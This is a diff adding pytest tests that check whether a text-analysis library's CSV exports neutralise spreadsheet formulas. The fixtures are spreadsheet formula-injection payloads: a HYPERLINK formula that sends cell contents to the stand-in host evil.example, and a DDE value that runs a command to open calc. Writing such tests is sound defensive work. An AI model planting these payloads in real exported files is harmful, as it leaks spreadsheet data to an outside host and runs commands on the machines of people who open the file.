@@ -128,3 +128,30 @@ def test_compare_corpus_refuses_scores_without_the_actor_list(tmp_path):
     with pytest.raises(fl.OptionError, match="hold no tone toward actors"):
         fl.compare_corpus(tmp_path / "scores.parquet", by="outlet", actors="china-tech",
                           min_articles=3)
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+def test_every_csv_of_an_article_report_neutralises_formulas(tmp_path, seed_articles):
+    articles = seed_articles.assign(title=EVIL, outlet="@SUM(A1:A9)")
+    paths = fl.analyze(articles, codebook="ai").to_csv(tmp_path)
+    cells = {p.name: pd.read_csv(p, dtype=str, keep_default_na=False) for p in paths}
+    for name, table in cells.items():
+        for column in table.columns:
+            assert not table[column].str.startswith(("=", "+", "@")).any(), (name, column)
+    scores = cells["scores.csv"].iloc[0]
+    assert scores["title"] == "'" + EVIL and scores["outlet"] == "'@SUM(A1:A9)"
+    assert (cells["sentences.csv"]["text"] == "'" + EVIL).any()  # the headline, sentence 0
+
+
+def test_every_csv_of_a_comparison_neutralises_formulas(tmp_path, small_corpus):
+    evil = "=cmd|'/C calc'!A0"
+    corpus = small_corpus.assign(source=small_corpus["source"].replace("Alpha", evil))
+    comparison = fl.compare_corpus(fl.read_articles(corpus, text="body", outlet="source"),
+                                   by="source", n_boot=20)
+    paths = [p for p in comparison.to_csv(tmp_path) if p.suffix == ".csv"]
+    for path in paths:
+        table = pd.read_csv(path, dtype=str, keep_default_na=False)
+        for column in table.columns:
+            assert not table[column].str.startswith(("=", "+", "@")).any(), (path.name, column)
+    prevalence = pd.read_csv(tmp_path / "prevalence.csv", dtype=str)
+    assert "'" + evil in set(prevalence["group"])
